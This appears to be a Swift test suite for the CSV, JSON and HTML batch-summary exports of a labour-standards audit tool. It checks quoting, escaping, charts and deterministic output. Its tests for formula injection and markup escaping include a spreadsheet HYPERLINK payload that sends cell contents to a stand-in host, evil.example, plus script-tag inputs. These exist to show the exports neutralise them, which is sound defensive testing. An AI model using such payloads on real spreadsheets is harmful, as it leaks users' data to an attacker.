import FairlabelXML
import Foundation
import Testing

@testable import Audit
@testable import AuditBatch

// MARK: - CSV

@Suite("Batch summary as CSV")
struct BatchSummaryCSVTests {
    @Test("The header names every column and every row has as many fields")
    func headerAndColumns() throws {
        let rows = BatchSample.mixed
        let records = try CSVRecords.parse(
            BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
        #expect(
            records.first == [
                "file", "organisation", "identifiers", "country", "sector", "decision", "score", "knockouts", "findings_knockout",
                "findings_major",
                "findings_minor", "findings_advisory", "findings_gate", "findings_missing_data", "failed_criteria", "referral_sites",
                "escalation_sites", "problem",
                "submission_sha256", "scheme",
                "scheme_sha256", "packs_sha256", "tool_version", "audit_date",
            ])
        #expect(records.count == rows.count + 1)
        for record in records { #expect(record.count == BatchSummaryCSV.columns.count) }
    }

    @Test("Commas, quotes and line breaks are quoted, with quotes doubled, and read back unchanged")
    func quoting() throws {
        let rows = [
            BatchSample.row(file: "a.xml", organisation: #"Smith, "Jr" & Co"#),
            BatchSample.row(file: "b.xml", organisation: "Line one\nLine two\r\nLine three"),
            BatchSample.row(file: "c.xml", organisation: "Plain Ltd"),
        ]
        let csv = BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        #expect(csv.contains(#"a.xml,"Smith, ""Jr"" & Co","#))
        #expect(csv.contains("b.xml,\"Line one\nLine two\r\nLine three\","))
        #expect(csv.contains("c.xml,Plain Ltd,"))
        let records = try CSVRecords.parse(csv)
        #expect(records.count == 4)
        #expect(records.map { $0[1] } == ["organisation", #"Smith, "Jr" & Co"#, "Line one\nLine two\r\nLine three", "Plain Ltd"])
    }

    @Test(
        "A cell a spreadsheet would run as a formula gets a leading apostrophe",
        arguments: ["=1+1", "+1", "-2", "@SUM(A1)", "\tTab", "\rReturn"])
    func formulaGuard(value: String) {
        #expect(BatchSummaryCSV.guardingFormula(value) == "'" + value)
    }

    @Test(
        "Text that only contains formula characters later is left alone",
        arguments: ["Acme 1-2 Ltd", "A=B", "ACME+", "mail@example.org", "", "'quoted"])
    func noGuard(value: String) {
        #expect(BatchSummaryCSV.guardingFormula(value) == value)
    }

    @Test("A hostile organisation name cannot become a formula, and identifiers and files are guarded too")
    func hostileCells() throws {
        let rows = [
            BatchSample.row(
                file: "-rf.xml", organisation: #"=HYPERLINK("http://evil.example/?q="&A1,"click")"#, identifiers: ["@cmd", "LEI:1"])
        ]
        let csv = BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        #expect(csv.contains(#"'-rf.xml,"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",'@cmd; LEI:1,"#))
        let record = try CSVRecords.parse(csv)[1]
        #expect(record[0] == "'-rf.xml")
        #expect(record[1] == #"'=HYPERLINK("http://evil.example/?q="&A1,"click")"#)
        // No field read back starts with a formula character.
        for field in record { #expect(!["=", "+", "-", "@", "\t", "\r"].contains(field.first.map(String.init) ?? "")) }
    }

    @Test("A row gives its decision, score with one decimal, knock-outs, finding counts by severity and digests")
    func rowFields() throws {
        let rows = [BatchSample.knockedOut, BatchSample.broken]
        let records = try CSVRecords.parse(
            BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
        let header = records[0]
        func field(_ record: [String], _ name: String) -> String { record[header.firstIndex(of: name)!] }
        let withheld = records[1]
        #expect(field(withheld, "decision") == "withheld")
        #expect(field(withheld, "score") == "54.0")
        #expect(field(withheld, "knockouts") == "FL-DOCS-01 cluster:BD-DH-02")
        #expect(field(withheld, "identifiers") == "LEI:5493001KJTIIGC8Y1R12; GB-COH:01234567")
        #expect(field(withheld, "findings_knockout") == "1")
        #expect(field(withheld, "findings_major") == "2")
        #expect(field(withheld, "findings_minor") == "0")
        #expect(field(withheld, "findings_missing_data") == "1")
        #expect(field(withheld, "failed_criteria") == "FL-DOCS-01 FL-HOURS-01 FL-WAGE-01")
        #expect(field(withheld, "submission_sha256") == SampleAudit.digest("knocked-out.xml"))
        #expect(field(withheld, "scheme") == "fairlabel-fl@2026.1")
        #expect(field(withheld, "packs_sha256") == SampleAudit.packs.map(\.sha256).joined(separator: " "))
        #expect(field(withheld, "tool_version") == "0.1.0")
        #expect(field(withheld, "audit_date") == "2026-06-30")
        let broken = records[2]
        #expect(field(broken, "decision") == "not-auditable")
        #expect(field(broken, "score") == "")
        #expect(field(broken, "problem") == "broken.xml:57:9: element 'weeklyHours': this element is not expected")
    }

    @Test("Lines end in LF, rows keep their input order, and the same rows give the same bytes")
    func determinism() throws {
        let rows = BatchSample.mixed
        let first = BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let copy = try JSONDecoder().decode([BatchSummaryRow].self, from: JSONEncoder().encode(rows))
        #expect(
            Array(first.utf8)
                == Array(BatchSummaryCSV.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
        #expect(first.hasSuffix("\n"))
        #expect(!first.contains("\r\n"))
        let files = try CSVRecords.parse(first).dropFirst().map { $0[0] }
        #expect(files == rows.map(\.file))
        let reversed = try CSVRecords.parse(
            BatchSummaryCSV.document(for: rows.reversed(), scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
        #expect(reversed.dropFirst().map { $0[0] } == rows.reversed().map(\.file))
    }

    @Test("An empty batch gives the header alone")
    func empty() {
        #expect(
            BatchSummaryCSV.document(for: [], scheme: BatchSample.scheme, auditDate: BatchSample.auditDate) == BatchSummaryCSV.columns
                .joined(separator: ",") + "\n")
    }
}

// MARK: - JSON

@Suite("Batch summary as JSON")
struct BatchSummaryJSONTests {
    @Test("The document decodes back to the scheme, audit date, counts by decision and the same rows")
    func roundTrip() throws {
        let rows = BatchSample.mixed
        let json = BatchSummaryJSON.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let summary = try JSONDecoder().decode(BatchSummaryJSON.Summary.self, from: Data(json.utf8))
        #expect(summary.scheme == BatchSample.scheme)
        #expect(summary.auditDate == BatchSample.auditDate)
        #expect(summary.submissions == rows.count)
        #expect(summary.rows == rows)
        for decision in Decision.allCases {
            #expect(summary.decisions[decision.rawValue] == rows.filter { $0.decision == decision }.count, "\(decision)")
        }
        #expect(summary.decisions.values.reduce(0, +) == rows.count)
    }

    @Test("Every decision is counted, zeros included, and keys are sorted")
    func zeros() throws {
        let json = BatchSummaryJSON.document(
            for: [BatchSample.row(file: "only.xml", decision: .granted, score: 91)], scheme: BatchSample.scheme,
            auditDate: BatchSample.auditDate)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        #expect(object["decisions"] as? [String: Int] == ["granted": 1, "conditional": 0, "withheld": 0, "not-auditable": 0])
        #expect(Array(object.keys).sorted() == ["auditDate", "decisions", "escalations", "referrals", "rows", "scheme", "submissions"])
        let order = ["\"auditDate\"", "\"decisions\"", "\"rows\"", "\"scheme\"", "\"submissions\""].compactMap {
            json.range(of: $0)?.lowerBound
        }
        #expect(order == order.sorted() && order.count == 5)
        #expect(json.contains("\"file\" : \"only.xml\""))
    }

    @Test("Slashes are not escaped and the same rows give the same bytes")
    func determinism() throws {
        let rows = BatchSample.mixed
        let first = BatchSummaryJSON.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let copy = try JSONDecoder().decode([BatchSummaryRow].self, from: JSONEncoder().encode(rows))
        #expect(
            Array(first.utf8)
                == Array(BatchSummaryJSON.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
        #expect(first.contains("submissions/batch-0001.xml"))
        #expect(!first.contains("\\/"))
        #expect(first.hasSuffix("}\n"))
    }
}

// MARK: - HTML

@Suite("Batch summary as HTML")
struct BatchSummaryHTMLTests {
    static let xhtml = "http://www.w3.org/1999/xhtml"
    static let svg = "http://www.w3.org/2000/svg"

    static func parse(_ rows: [BatchSummaryRow]) throws -> (html: String, document: Document, context: XPathContext) {
        let html = BatchSummaryHTML.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let document = try ReportFixture.parseHTML(html)
        return (html, document, XPathContext(document: document, namespaces: ["h": xhtml, "s": svg]))
    }

    static func string(_ expression: String, _ parsed: (html: String, document: Document, context: XPathContext)) throws -> String {
        try ReportFixture.string(expression, in: parsed.document, parsed.context)
    }

    @Test("The page is polyglot HTML5 that parses as XML once the doctype is removed, with unique ids")
    func parsesAsXML() throws {
        let page = try Self.parse(BatchSample.mixed)
        #expect(try Self.string("/h:html/@lang", page) == "en")
        #expect(try Self.string("/h:html/h:head/h:meta[1]/@charset", page) == "utf-8")
        #expect(
            try Self.string("/h:html/h:head/h:title", page)
                == "Batch summary: \(BatchSample.mixed.count) submissions · fairlabel-fl@2026.1 · 2026-06-30")
        #expect(try Self.string("count(//*[@id][@id = preceding::*/@id])", page) == "0")
        #expect(page.html.hasSuffix("</html>\n"))
    }

    @Test("Only void HTML elements and SVG shapes are written self-closed")
    func selfClosing() throws {
        let html = BatchSummaryHTML.document(for: BatchSample.mixed, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let allowed: Set<String> = ["meta", "br", "hr", "img", "input", "link", "col", "wbr", "line", "rect", "path", "circle"]
        let names = html.matches(of: try Regex("<([A-Za-z][A-Za-z0-9]*)[^<>]*/>")).compactMap { $0.output[1].substring.map(String.init) }
        #expect(Set(names).subtracting(allowed).isEmpty, "\(Set(names).subtracting(allowed).sorted())")
    }

    @Test("The page loads nothing from elsewhere and has no script")
    func selfContained() {
        let html = BatchSummaryHTML.document(
            for: BatchSample.mixed + [BatchSample.hostile], scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        for forbidden in [
            "<script", "<link", "<img", "<iframe", "src=", "url(", "@import", "href=\"http", "href=\"//", "<object", "<embed",
        ] {
            #expect(!html.contains(forbidden), "\(forbidden)")
        }
        #expect(ReportFixture.occurrences(of: "<style>", in: html) == 1)
        #expect(html.contains("@media print"))
    }

    @Test("The header gives the scheme, the audit date and the number of submissions, and the figures count each decision")
    func header() throws {
        let rows = BatchSample.mixed
        let page = try Self.parse(rows)
        #expect(
            try Self.string("normalize-space(//h:p[contains(@class, 'count-note')])", page)
                == "\(rows.count) submissions audited under fairlabel-fl@2026.1, audit date 2026-06-30")
        for decision in Decision.allCases {
            let count = rows.filter { $0.decision == decision }.count
            #expect(
                try Self.string("//h:div[contains(@class, 'decision-\(decision.rawValue)')]/h:span[@class='figure-number']", page)
                    == String(count))
            #expect(
                try Self.string("//h:div[contains(@class, 'decision-\(decision.rawValue)')]/h:span[@class='figure-label']", page)
                    == decision.label)
        }
    }

    @Test("Each chart is an inline SVG with an accessible name and description")
    func charts() throws {
        let page = try Self.parse(BatchSample.mixed)
        #expect(try Self.string("count(//s:svg)", page) == "4")
        for id in ["sector", "country", "findings", "scores"] {
            #expect(try Self.string("count(//h:figure/s:svg[contains(@class, '\(id)-chart')][@role='img'])", page) == "1", "\(id)")
            #expect(
                try Self.string("//s:svg[contains(@class, '\(id)-chart')]/@aria-labelledby", page) == "\(id)-chart-title \(id)-chart-desc")
            #expect(try !Self.string("//s:svg[contains(@class, '\(id)-chart')]/s:title[@id='\(id)-chart-title']", page).isEmpty)
            #expect(try !Self.string("//s:svg[contains(@class, '\(id)-chart')]/s:desc[@id='\(id)-chart-desc']", page).isEmpty)
        }
    }

    @Test("Decisions by sector and country have one stacked bar per category, largest first, with the total")
    func decisionBars() throws {
        let rows = BatchSample.mixed
        let page = try Self.parse(rows)
        let sectors = Dictionary(grouping: rows, by: { $0.sector ?? "sector not given" })
        #expect(try Self.string("count(//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'])", page) == String(sectors.count))
        let largest = sectors.max { $0.value.count != $1.value.count ? $0.value.count < $1.value.count : $0.key > $1.key }!
        #expect(
            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='label']", page) == largest.key)
        #expect(
            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='value']", page)
                == String(largest.value.count))
        // Every submission is in exactly one bar of each chart.
        for id in ["sector", "country"] {
            let totals = try Self.string("sum(//s:svg[contains(@class, '\(id)-chart')]/s:g[@class='row']/s:text[@class='value'])", page)
            #expect(totals == String(rows.count), "\(id)")
        }
        // Every segment has a decision's colour class.
        #expect(
            try Self.string(
                "count(//s:svg[contains(@class, 'country-chart')]/s:g[@class='row']/s:rect[not(starts-with(@class, 'seg seg-'))])", page)
                == "0")
    }

    @Test("Beyond fifteen sectors the smaller ones share one last bar")
    func collectsSmallCategories() throws {
        let rows = (0..<40).map { index in
            BatchSample.row(
                file: "s\(index).xml", sector: "NACE \(10 + index % 20).00", decision: index % 3 == 0 ? .granted : .withheld, score: 70)
        }
        let page = try Self.parse(rows)
        #expect(try Self.string("count(//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'])", page) == "16")
        #expect(
            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][16]/s:text[@class='label']", page)
                == "5 other sectors")
        #expect(try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][16]/s:text[@class='value']", page) == "10")
        // Equal groups are ordered by name, so the same rows always give the same bars.
        #expect(
            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='label']", page) == "NACE 10.00")
    }

    @Test("The most frequent findings are the top fifteen failed criteria with their counts")
    func findings() throws {
        let rows = BatchSample.corpus(count: 400)
        var counts: [String: Int] = [:]
        for row in rows { for id in Set(row.failedCriteria) { counts[id, default: 0] += 1 } }
        let expected = counts.sorted { $0.value != $1.value ? $0.value > $1.value : $0.key < $1.key }.prefix(15)
        #expect(counts.count > 15)
        let page = try Self.parse(rows)
        let bars = "//s:svg[contains(@class, 'findings-chart')]/s:g[@class='row']"
        #expect(try Self.string("count(\(bars))", page) == "15")
        for (index, (id, count)) in expected.enumerated() {
            #expect(try Self.string("\(bars)[\(index + 1)]/s:text[@class='code']", page) == id)
            #expect(
                try Self.string("\(bars)[\(index + 1)]/s:text[@class='value']/text()[1]", page).trimmingCharacters(in: .whitespaces)
                    == String(count))
        }
        #expect(try Self.string("count(\(bars)/s:rect[@class='bar-finding'])", page) == "15")
    }

    @Test(
        "Scores fall into ten 10-point bins, 100 in the last, each bar with its count",
        arguments: [(0.0, 0), (9.9, 0), (10.0, 1), (59.9, 5), (60.0, 6), (99.9, 9), (100.0, 9)])
    func bins(score: Double, bin: Int) {
        #expect(BatchSummaryCharts.ScoreHistogram.bin(of: score) == bin)
    }

    @Test("The score histogram counts every scored submission once")
    func histogram() throws {
        let rows = BatchSample.mixed
        let page = try Self.parse(rows)
        let bins = "//s:svg[contains(@class, 'scores-chart')]/s:g[@class='bin']"
        #expect(try Self.string("count(\(bins))", page) == "10")
        #expect(try Self.string("sum(\(bins)/s:text[starts-with(@class, 'value')])", page) == String(rows.filter { $0.score != nil }.count))
        let sixties = rows.filter { ($0.score ?? -1) >= 60 && ($0.score ?? -1) < 70 }.count
        #expect(try Self.string("\(bins)[7]/s:text[starts-with(@class, 'value')]", page) == String(sixties))
    }

    @Test("The table has one row per submission, in input order, with a coloured decision badge")
    func table() throws {
        let rows = BatchSample.mixed
        let page = try Self.parse(rows)
        let body = "//h:table[@class='submissions']/h:tbody"
        #expect(try Self.string("count(\(body)/h:tr)", page) == String(rows.count))
        for (index, row) in rows.enumerated() {
            #expect(try Self.string("\(body)/h:tr[\(index + 1)]/h:td[2]", page) == row.file)
            #expect(try Self.string("\(body)/h:tr[\(index + 1)]/h:td[6]/h:span/@class", page) == "badge badge-\(row.decision.rawValue)")
            #expect(try Self.string("\(body)/h:tr[\(index + 1)]/h:td[7]", page) == (row.score.map(\.formatted1) ?? "—"))
        }
        #expect(try Self.string("count(\(body)//s:*)", page) == "0")
    }

    @Test("Hostile organisation names, sectors and files are escaped everywhere")
    func escapes() throws {
        let page = try Self.parse(BatchSample.mixed + [BatchSample.hostile])
        #expect(!page.html.contains("<script"))
        #expect(!page.html.contains("<b>"))
        #expect(try Self.string("count(//h:script | //h:b | //s:script)", page) == "0")
        #expect(try Self.string("//h:table[@class='submissions']/h:tbody/h:tr[last()]/h:td[3]", page) == SampleAudit.hostileText)
        #expect(
            try Self.string("//h:table[@class='submissions']/h:tbody/h:tr[last()]/h:td[2]", page) == "evil/" + SampleAudit.hostileText
                + ".xml")
        #expect(
            try Self.string("count(//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row']/s:title[contains(., '<script>')])", page)
                == "1")
    }

    @Test("An empty batch gives a page with zeros and no charts")
    func empty() throws {
        let page = try Self.parse([])
        #expect(try Self.string("count(//s:svg)", page) == "0")
        #expect(try Self.string("count(//h:table[@class='submissions'])", page) == "0")
        #expect(try Self.string("//h:div[contains(@class, 'decision-granted')]/h:span[@class='figure-number']", page) == "0")
        #expect(page.html.contains("No submissions."))
    }

    @Test("The same rows give the same bytes, also decoded from JSON, and no date of writing")
    func determinism() throws {
        let rows = BatchSample.corpus(count: 300)
        let first = BatchSummaryHTML.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let copy = try JSONDecoder().decode([BatchSummaryRow].self, from: JSONEncoder().encode(rows))
        #expect(
            Array(first.utf8)
                == Array(BatchSummaryHTML.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
        let formatter = DateFormatter()
        formatter.dateFormat = "yyyy-MM-dd"
        formatter.locale = Locale(identifier: "en_US_POSIX")
        let today = formatter.string(from: Date())
        if today != BatchSample.auditDate {
            #expect(!first.contains(today))
            #expect(!BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).contains(today))
            #expect(!BatchSummaryJSON.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).contains(today))
        }
    }
}

// MARK: - Scale

@Suite("Batch summaries at scale")
struct BatchSummaryScaleTests {
    @Test("A 5,000-submission batch gives all three summaries, and the page stays under 3 MB", .timeLimit(.minutes(1)))
    func fiveThousand() throws {
        let rows = BatchSample.corpus(count: 5_000)
        let csv = BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let json = BatchSummaryJSON.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let html = BatchSummaryHTML.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        #expect(try CSVRecords.parse(csv).count == 5_001)
        #expect(try JSONDecoder().decode(BatchSummaryJSON.Summary.self, from: Data(json.utf8)).rows.count == 5_000)
        #expect(html.utf8.count < 3_000_000, "\(html.utf8.count) bytes")
        #expect(ReportFixture.occurrences(of: "<svg", in: html) == 4)
        #expect(html.contains("<strong>5,000 submissions</strong>"))
        let document = try ReportFixture.parseHTML(html)
        let context = XPathContext(document: document, namespaces: ["h": BatchSummaryHTMLTests.xhtml])
        #expect(try ReportFixture.string("count(//h:table[@class='submissions']/h:tbody/h:tr)", in: document, context) == "5000")
    }
}

@Suite("Batch summary in a browser", .enabled(if: Chromium.path != nil, "headless Chromium is not installed"), .serialized)
struct BatchSummaryBrowserTests {
    @Test("Headless Chromium builds the whole page: every table row and every chart", .timeLimit(.minutes(1)))
    func loads() throws {
        let rows = BatchSample.corpus(count: 500) + [BatchSample.hostile]
        let written = BatchSummaryHTML.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        let directory = try TemporaryDirectory()
        let file = try directory.write("summary.html", written)
        let (status, dom) = try Chromium.run(["--dump-dom", URL(fileURLWithPath: file).absoluteString], in: directory.path)
        #expect(status == 0)
        #expect(ReportFixture.occurrences(of: "<tr", in: dom) == ReportFixture.occurrences(of: "<tr", in: written))
        #expect(ReportFixture.occurrences(of: "<svg", in: dom) == 4)
        #expect(ReportFixture.occurrences(of: "<section", in: dom) == ReportFixture.occurrences(of: "<section", in: written))
        #expect(!dom.contains("<script"))
        #expect(dom.contains("byte for byte."))
    }
}

/// A page to look at while working on the style:
/// `FAIRLABEL_SUMMARY_PREVIEW=/tmp/summary.html swift test --filter BatchSummaryPreview`
/// (`FAIRLABEL_SUMMARY_PREVIEW_COUNT` sets the number of rows, 1,200 by default). Skipped otherwise.
@Suite("Batch summary preview", .enabled(if: ProcessInfo.processInfo.environment["FAIRLABEL_SUMMARY_PREVIEW"] != nil))
struct BatchSummaryPreview {
    @Test("Writes the summary page of a generated batch to the path in FAIRLABEL_SUMMARY_PREVIEW")
    func preview() throws {
        let environment = ProcessInfo.processInfo.environment
        let path = try #require(environment["FAIRLABEL_SUMMARY_PREVIEW"])
        let rows = BatchSample.corpus(count: environment["FAIRLABEL_SUMMARY_PREVIEW_COUNT"].flatMap { Int($0) } ?? 1_200)
        let html = BatchSummaryHTML.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
        try Data(html.utf8).write(to: URL(fileURLWithPath: path))
    }
}

// MARK: - Samples

/// Summary rows for these tests, each made from an `Audit` value (rows have no other
/// initialiser), with the scheme, packs and digests of the report tests' samples.
enum BatchSample {
    static let scheme = "fairlabel-fl@2026.1"
    static let auditDate = "2026-06-30"

    /// A row of an audit with these facts; `failed` lists the failed criteria with the severity
    /// of each finding (`nil` for missing data).
    static func row(
        file: String, organisation: String? = "Acme Ltd", identifiers: [String] = [], country: String? = "GB",
        sector: String? = "NACE 14.19",
        decision: Decision = .conditional, score: Double? = 72.5, knockouts: [String] = [], failed: [(String, Severity?)] = [],
        problem: String? = nil
    ) -> BatchSummaryRow {
        var criteria: [String: [Finding]] = [:]
        var order: [String] = []
        for (index, (id, severity)) in failed.enumerated() {
            if criteria[id] == nil { order.append(id) }
            criteria[id, default: []].append(
                SampleAudit.finding(id, severity ?? .major, line: 100 + index, site: nil, "finding \(index)", missingData: severity == nil))
        }
        let results = order.map { id in
            let findings = criteria[id] ?? []
            return SampleAudit.criterion(id, "Criterion \(id)", theme: "REC", findings.first?.severity ?? .major, .fail, findings: findings)
        }
        let problems =
            problem.map { [Diagnostic(severity: .error, location: SourceLocation(file: file, line: 57, column: 9), message: $0)] } ?? []
        let audit = Audit(
            submission: SubmissionSummary(
                file: file, sha256: SampleAudit.digest(file), organisation: organisation, identifiers: identifiers, country: country,
                sector: sector,
                period: nil),
            scheme: SampleAudit.scheme, packs: SampleAudit.packs, toolVersion: "0.1.0", auditDate: CalendarDate(iso8601: auditDate)!,
            decision: decision, steps: [],
            structuralProblems: problems, criteria: results, themes: [], score: score, knockouts: knockouts.map(Knockout.init(code:)),
            correctiveActions: [],
            pathToNextOutcome: [], referrals: [], escalations: [], validUntil: nil, surveillanceDue: nil)
        return BatchSummaryRow(audit)
    }

    /// Withheld for a knock-out and an indicator cluster, with two major findings and one
    /// missing datum.
    static let knockedOut = row(
        file: "knocked-out.xml", organisation: "Brightstitch Apparel plc", identifiers: ["LEI:5493001KJTIIGC8Y1R12", "GB-COH:01234567"],
        decision: .withheld, score: 54, knockouts: ["FL-DOCS-01", "cluster:BD-DH-02"],
        failed: [("FL-DOCS-01", .knockout), ("FL-HOURS-01", .major), ("FL-HOURS-01", .major), ("FL-WAGE-01", nil)])

    /// Not auditable: a schema error, no organisation data, no score.
    static let broken = row(
        file: "broken.xml", organisation: nil, country: nil, sector: nil, decision: .notAuditable, score: nil,
        problem: "element 'weeklyHours': this element is not expected")

    /// Every text a submitter controls is hostile to markup.
    static let hostile = row(
        file: "evil/" + SampleAudit.hostileText + ".xml", organisation: SampleAudit.hostileText, identifiers: [SampleAudit.hostileText],
        country: SampleAudit.hostileText, sector: "<script>sector</script> & co", decision: .withheld, score: 12.5,
        knockouts: [SampleAudit.hostileText], failed: [(SampleAudit.hostileText, .knockout)], problem: SampleAudit.hostileText)

    /// Forty rows with every decision, several sectors and countries, and the two above.
    static let mixed: [BatchSummaryRow] = corpus(count: 38) + [knockedOut, broken]

    static let countries = [
        "BD", "CN", "DE", "GB", "IN", "KH", "MY", "NL", "NO", "PK", "TR", "VN", "US", "MX", "BR", "TH", "ID", "ET", "LK", "PL", "RO", "MA",
    ]
    static let sectors = [
        "NACE 14.19", "NACE 13.20", "NACE 26.11", "NACE 10.11", "NACE 01.13", "NACE 15.20", "NACE 22.29", "NACE 27.12", "NACE 46.41",
        "NACE 32.40", "NACE 08.99", "NACE 24.10", "NACE 29.32", "NACE 31.01", "NACE 16.23", "NACE 49.41", "NACE 52.10", "NACE 81.21",
    ]
    static let criteriaIDs = [
        "FL-HOURS-01", "FL-FEES-02", "FL-DATA-04", "FL-GRIEV-02", "FL-HOURS-02", "FL-WAGE-01", "FL-DD-03", "FL-CONT-01", "FL-POL-04",
        "FL-FEES-03",
        "FL-DD-01", "FL-REM-01", "FL-DATA-02", "FL-HOURS-03", "FL-GRIEV-01", "FL-CONT-02", "FL-DATA-01", "FL-POL-01", "FL-DOCS-01",
        "FL-FEES-01",
        "FL-MOVE-01", "FL-WAGE-02", "FL-DEBT-02", "FL-COER-01",
    ]

    /// `count` varied rows from a fixed seed: the same count gives the same rows. Decisions,
    /// sectors, countries and failed criteria are skewed, as in real batches.
    static func corpus(count: Int) -> [BatchSummaryRow] {
        var generator = BatchSampleGenerator(seed: 2026)
        return (0..<count).map { index in
            let file = "submissions/batch-\(String(format: "%04d", index + 1)).xml"
            let country = countries[skewed(countries.count, &generator)]
            let sector = sectors[skewed(sectors.count, &generator)]
            let roll = Int(generator.next() % 100)
            let organisation = "Supplier \(index + 1) \(["Textiles", "Electronics", "Foods", "Logistics", "Components"][index % 5]) Ltd"
            let failures = (0..<Int(generator.next() % 7)).map { _ in
                (criteriaIDs[skewed(criteriaIDs.count, &generator)], [Severity.major, .minor, .advisory, nil][Int(generator.next() % 4)])
            }
            switch roll {
            case 0..<8:
                return row(
                    file: file, organisation: nil, country: nil, sector: nil, decision: .notAuditable, score: nil,
                    problem: "not well-formed at line \(index % 90 + 2)")
            case 8..<30:
                let score = 80 + Double(generator.next() % 201) / 10
                return row(
                    file: file, organisation: organisation, country: country, sector: sector, decision: .granted, score: score,
                    failed: Array(failures.prefix(1)))
            case 30..<70:
                let score = 60 + Double(generator.next() % 200) / 10
                return row(
                    file: file, organisation: organisation, country: country, sector: sector, decision: .conditional, score: score,
                    failed: failures)
            default:
                let score = 15 + Double(generator.next() % 700) / 10
                let knockout = criteriaIDs[18 + Int(generator.next() % 6)]
                return row(
                    file: file, organisation: organisation, country: country, sector: sector, decision: .withheld, score: score,
                    knockouts: [knockout],
                    failed: failures + [(knockout, .knockout)])
            }
        }
    }

    /// An index below `count`, small ones far more often (roughly 1/(i+1)).
    private static func skewed(_ count: Int, _ generator: inout BatchSampleGenerator) -> Int {
        let weights = (0..<count).map { 1000 / ($0 + 1) }
        var pick = Int(generator.next() % UInt64(weights.reduce(0, +)))
        for (index, weight) in weights.enumerated() {
            if pick < weight { return index }
            pick -= weight
        }
        return count - 1
    }
}

/// SplitMix64: the same seed gives the same numbers on every platform and run.
struct BatchSampleGenerator: RandomNumberGenerator {
    private var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var value = state
        value = (value ^ (value >> 30)) &* 0xBF58_476D_1CE4_E5B9
        value = (value ^ (value >> 27)) &* 0x94D0_49BB_1331_11EB
        return value ^ (value >> 31)
    }
}

/// A strict RFC 4180 reader for the tests: fields separated by commas, records by LF (CRLF is
/// accepted), quoted fields may hold commas, quotes (doubled) and line breaks. Throws on a quote
/// in an unquoted field or an unterminated quote, so a quoting mistake cannot pass unnoticed.
enum CSVRecords {
    struct Malformed: Error, CustomStringConvertible {
        let description: String
    }

    static func parse(_ text: String) throws -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = ""
        var quoted = false
        var wasQuoted = false
        var scalars = Array(text.unicodeScalars)[...]
        while let scalar = scalars.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if scalars.first == "\"" {
                        scalars.removeFirst()
                        field.unicodeScalars.append("\"")
                    } else {
                        quoted = false
                    }
                } else {
                    field.unicodeScalars.append(scalar)
                }
                continue
            }
            switch scalar {
            case "\"":
                guard field.isEmpty, !wasQuoted else {
                    throw Malformed(description: "quote inside an unquoted field after \(field.debugDescription)")
                }
                quoted = true
                wasQuoted = true
            case ",":
                record.append(field)
                field = ""
                wasQuoted = false
            case "\r" where scalars.first == "\n":
                continue
            case "\n":
                record.append(field)
                records.append(record)
                record = []
                field = ""
                wasQuoted = false
            default:
                guard !wasQuoted else { throw Malformed(description: "text after a closing quote") }
                field.unicodeScalars.append(scalar)
            }
        }
        guard !quoted else { throw Malformed(description: "unterminated quoted field") }
        guard field.isEmpty, record.isEmpty else { throw Malformed(description: "the last record does not end in a line break") }
        return records
    }
}
